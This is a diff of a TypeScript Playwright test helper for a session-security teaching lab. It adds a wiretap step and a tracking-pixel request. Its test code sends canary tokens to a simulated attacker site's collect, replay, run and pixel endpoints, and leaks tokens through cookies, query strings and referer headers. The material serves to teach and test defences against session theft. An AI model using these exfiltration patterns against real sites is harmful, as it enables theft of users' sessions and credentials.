@@ -1,3 +1,4 @@
+import { expect } from '@playwright/test';
 import { deviceTokenHeader } from '@session-lab/contract';
 import { endpoints as anatomy } from '@session-lab/contract/labs/anatomy';
 import { endpoints as expiry } from '@session-lab/contract/labs/expiry';
@@ -7,6 +8,7 @@ import { endpoints as outage } from '@session-lab/contract/labs/outage';
 import { endpoints as queryToken, socketPath } from '@session-lab/contract/labs/query-token';
 import { endpoints as redisConsole } from '@session-lab/contract/labs/redis-console';
 import { endpoints as websocket, socketPath as websocketPath } from '@session-lab/contract/labs/websocket';
+import { endpoints as wiretap } from '@session-lab/contract/labs/wiretap';
 import { lanes } from '@session-lab/contract/labs/where-state-lives';
 import { createHttpClient } from '@session-lab/test-support/http-client';
 import { signIn, signUp } from './account.ts';
@@ -14,6 +16,7 @@ import { sitesOf } from './bank.ts';
 import { freeze, kill, thaw } from './control.ts';
 import { member, send, sendRaw } from './http.ts';
 import { expectBothReplicas } from './lab.ts';
+import { stack } from './stack.ts';
 import { connectTo, openLive, origin, tryUpgrade } from './socket.ts';
 
 const student = { 'x-lab-student': 's'.repeat(22) };
@@ -193,6 +196,11 @@ async function useLabTokens(): Promise<string[]> {
         await send(`${at}?ticket=${one}`);
       }
       await send(`/v1/sessions/${one}`, { method: 'DELETE' });
+      await send(queryToken.sendForm.path, {
+        method: 'POST',
+        headers: { ...student, 'content-type': 'application/x-www-form-urlencoded' },
+        text: `access_token=${one}`,
+      });
     }
     return tokens;
   });
@@ -201,6 +209,27 @@ async function useLabTokens(): Promise<string[]> {
   const token = String(signedIn.authorization).replace('Bearer ', '');
   await connectTo(`${websocketPath}?access_token=${token}`);
   return [...tokens, token];
+}
+
+/** Sends secrets through the tap on the wire, over HTTP and over HTTPS. */
+async function sendThroughTap(id: string, secrets: readonly string[]): Promise<void> {
+  const { tap, tapTls } = sitesOf();
+  const headers = { 'x-lab-student': id };
+  const { body } = await send(wiretap.switchOn.path, { method: 'PUT', headers });
+  expect(member(body, 'status')).toBe('on');
+  for (const [at, ca] of [[tap], [tapTls, stack.ca]] as const) {
+    const client = createHttpClient(at, { ca });
+    for (const secret of secrets) {
+      const cookie = `bank=${secret}`;
+      await client.send('GET', `/?student=${id}&token=${secret}`, { headers: { cookie } });
+      await client.send('GET', `${bank.readMe.path}?student=${id}`, { token: secret });
+      const json = { student: id, user: 'ada', password: secret };
+      const { status } = await client.send('POST', bank.signIn.path, { json });
+      expect(status).toBeGreaterThanOrEqual(400);
+    }
+    client.close();
+  }
+  await send(wiretap.switchOff.path, { method: 'DELETE', headers });
 }
 
 /** Sends the canary and a token of the bank to the bank and to the attacker. Returns the token. */
@@ -230,7 +259,11 @@ async function useSites(canary: string): Promise<string> {
     await atAttacker.send('POST', `/collect?student=${id}`, { text: secret });
     await atAttacker.send('POST', `/replay?student=${id}`, { json: { token: secret } });
     await atAttacker.send('GET', `/run?student=${id}&plan=${secret}`);
+    await atAttacker.send('GET', `/pixel.gif?student=${id}&mark=canary`, {
+      headers: { cookie, referer: `${sites.bank}/?access_token=${secret}` },
+    });
   }
+  await sendThroughTap(id, [canary, token]);
   for (const client of [atBank, atAttacker]) client.close();
   return token;
 }
